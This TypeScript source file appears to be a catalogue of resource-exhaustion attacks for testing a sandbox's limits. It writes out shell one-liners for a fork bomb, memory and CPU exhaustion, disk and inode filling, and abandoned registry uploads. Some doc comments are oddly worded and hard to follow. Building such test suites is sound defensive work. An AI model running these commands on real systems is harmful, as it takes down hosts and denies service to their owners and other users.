import { ATTACKS_BY_DAEMON } from "./attacks-by-daemon.ts";
import { ATTACKS_BY_OUTPUT } from "./attacks-by-output.ts";
import { ATTACKS_ON_COUNTS } from "./attacks-on-counts.ts";

export interface Target {
  readonly registryHost: string;
  readonly registryPort: number;
}

export interface Attack {
  /** Follows "a sandbox": "forks without end". */
  readonly name: string;
  /** What it is meant for. */
  readonly kind: "machine" | "disk" | "tables" | "terminal" | "daemon";
  /** One line for the shell, that goes on until it is ended, a minute at most. */
  line(target: Target): string;
  /** What the attacker's page has open, so that the server asks what is attacked. */
  readonly opens?: { readonly lesson: string; readonly step: string };
  /** Both are in one class, whose board is told of what they do. */
  readonly inClass?: true;
}

const UPLOADS = 4;

/** What somebody with a terminal may try on the machine and on whoever is beside them. The first of each kind stands for it. */
export const ATTACKS: readonly Attack[] = [
  { name: "forks without end", kind: "machine", line: () => "bomb() { bomb | bomb & }; bomb" },
  {
    name: "takes all memory, again and again",
    kind: "machine",
    line: () => "while :; do head -c 4G /dev/zero | tail -n 1; done",
  },
  {
    name: "computes on every processor",
    kind: "machine",
    line: () => "for i in $(seq 16); do yes > /dev/null & done; wait",
  },
  {
    name: "fills the disk",
    kind: "disk",
    line: () => "while :; do cat /dev/zero > /var/lib/docker/big; sleep 0.1; done",
  },
  {
    name: "makes files without end",
    kind: "disk",
    line: () => "mkdir -p many && cd many && while :; do seq $((n += 5000)) | xargs touch; done",
  },
  {
    name: "begins uploads to the registry and finishes none",
    kind: "disk",
    // So much and no more, where it is let in: nobody clears it away.
    line: ({ registryHost, registryPort }) =>
      `for i in $(seq ${UPLOADS}); do to=$(curl -s -m 5 -X POST -D - http://${registryHost}:${registryPort}/v2/planted/blobs/uploads/ | tr -d '\\r' | sed -n 's/^Location: //p'); head -c 20M /dev/zero | curl -s -m 20 -X PATCH -H 'Content-Type: application/octet-stream' --data-binary @- "\${to:-http://${registryHost}:${registryPort}/v2/planted/blobs/uploads/none}"; done; sleep 30`,
  },
  ...ATTACKS_ON_COUNTS,
  ...ATTACKS_BY_OUTPUT,
  ...ATTACKS_BY_DAEMON,
];
